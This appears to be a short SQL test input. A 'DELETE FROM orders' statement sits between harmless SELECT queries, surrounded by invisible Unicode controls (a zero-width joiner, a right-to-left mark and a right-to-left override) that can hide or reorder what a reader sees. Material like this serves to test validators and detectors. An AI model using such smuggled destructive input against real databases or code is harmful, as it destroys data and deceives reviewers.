SELECT 1-- ‍‏ ;DELETE FROM orders‮

;SELECT count(*) FROM orders WHERE status = 'paid'